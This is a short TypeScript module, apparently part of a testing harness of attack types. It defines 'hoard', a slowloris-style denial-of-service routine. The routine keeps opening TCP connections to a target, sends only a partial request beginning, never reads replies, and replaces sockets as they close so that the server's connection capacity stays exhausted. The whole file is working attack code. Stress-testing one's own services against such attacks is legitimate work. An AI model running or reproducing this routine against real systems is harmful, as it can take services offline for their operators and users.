import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'

const OPEN_EVERY_MS = 2
const LOOK_EVERY_MS = 100

const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))

/** Opens connections that send a beginning, then nothing, and never read what they are answered. */
export function hoard(name: string, from: string, url: string, count: number, beginning: string): Attack {
  const sockets = new Set<Socket>()
  const done = { opened: 0 }
  const { hostname, port } = new URL(url)
  let isOver = false
  return {
    name,
    least: { once: count },
    done,
    async round() {
      while (sockets.size < count && !isOver) {
        const socket = connect({ host: hostname, port: Number(port), localAddress: from })
        sockets.add(socket)
        done.opened += 1
        socket.on('error', () => sockets.delete(socket)).on('close', () => sockets.delete(socket))
        socket.write(beginning)
        await pause(OPEN_EVERY_MS)
      }
      await pause(LOOK_EVERY_MS)
    },
    stop() {
      isOver = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
